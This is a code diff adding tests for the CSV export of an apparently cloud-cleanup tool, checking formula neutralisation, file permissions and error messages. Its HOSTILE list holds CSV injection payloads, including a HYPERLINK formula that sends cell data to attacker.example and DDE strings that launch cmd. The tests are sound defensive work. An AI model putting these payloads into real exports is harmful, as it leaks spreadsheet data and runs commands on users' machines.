@@ -291,6 +291,70 @@ def test_excluding_every_chosen_service_is_refused_before_a_run_is_recorded(sand
     assert not db_path.exists()
 
 
+# CSV export: what a spreadsheet would run as a formula is written as text (OWASP CSV injection)
+
+HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "\t=1+1", "\r=1+1"]
+
+
+def hostile_run(make_reporter):
+    reporter = make_reporter("us-east-1")
+    for name in HOSTILE:
+        reporter.record("failed", "ec2", "key_pairs", resource_id=name, error_code=name, message=name)
+    reporter.events()  # flushed
+    return reporter.run_id
+
+
+def test_report_csv_neutralises_spreadsheet_formulas(make_reporter, db_path, tmp_path):
+    run_id = hostile_run(make_reporter)
+    for target in ("-", tmp_path / "run.csv"):
+        result = invoke("report", run_id, "--db", db_path, "--csv", target)
+        assert result.exit_code == 0, result.output
+        text = result.output if target == "-" else open(target, newline="").read()
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert [row["resource_id"] for row in rows] == ["'" + name for name in HOSTILE]
+        assert [row["message"] for row in rows] == ["'" + name for name in HOSTILE]
+        assert [row["error_code"] for row in rows] == ["'" + name for name in HOSTILE]
+        assert all(row["seq"].isdigit() and row["pid"].isdigit() for row in rows)
+
+
+def test_report_csv_leaves_harmless_text_and_numbers_alone(seeded, db_path):
+    invoke(*run_args(db_path, "us-east-1"))
+    (run_id,) = run_ids(db_path)
+    result = invoke("report", run_id, "--db", db_path, "--csv", "-")
+    rows = list(csv.DictReader(io.StringIO(result.output)))
+    stored = list(EventStore(db_path).events(run_id))
+    assert [dict(row) for row in rows] == [{key: "" if value is None else str(value) for key, value in event.items()}
+                                          for event in stored]
+
+
+def test_a_csv_export_is_private_unless_the_file_exists(seeded, db_path, tmp_path):
+    invoke(*run_args(db_path, "us-east-1"))
+    new = tmp_path / "new.csv"
+    assert invoke("report", "--db", db_path, "--csv", new).exit_code == 0
+    assert new.stat().st_mode & 0o777 == 0o600
+    existing = tmp_path / "existing.csv"
+    existing.write_text("old")
+    existing.chmod(0o644)
+    assert invoke("report", "--db", db_path, "--csv", existing).exit_code == 0
+    assert existing.stat().st_mode & 0o777 == 0o644
+    assert existing.read_text().startswith("seq,run_id")
+
+
+@pytest.mark.parametrize("where, reason", [("folder", "Is a directory"), ("file/under/a/file.csv", "Not a directory"),
+                                           ("missing/run.csv", "No such file or directory")])
+def test_a_csv_path_that_cannot_be_written_is_one_line_and_exit_2(seeded, db_path, tmp_path, where, reason):
+    invoke(*run_args(db_path, "us-east-1"))
+    (tmp_path / "folder").mkdir()
+    (tmp_path / "file").write_text("")
+    target = tmp_path / where
+    result = invoke("report", "--db", db_path, "--csv", target)
+    assert result.exit_code == 2
+    assert result.output.strip().splitlines() == [
+        f"Error: cannot write the CSV export to {target}: {reason}; pass --csv a file path you can write, "
+        "or - for standard output"]
+
+
 # Exit codes and messages the README promises
 
 def costcutter(*args, **environment):
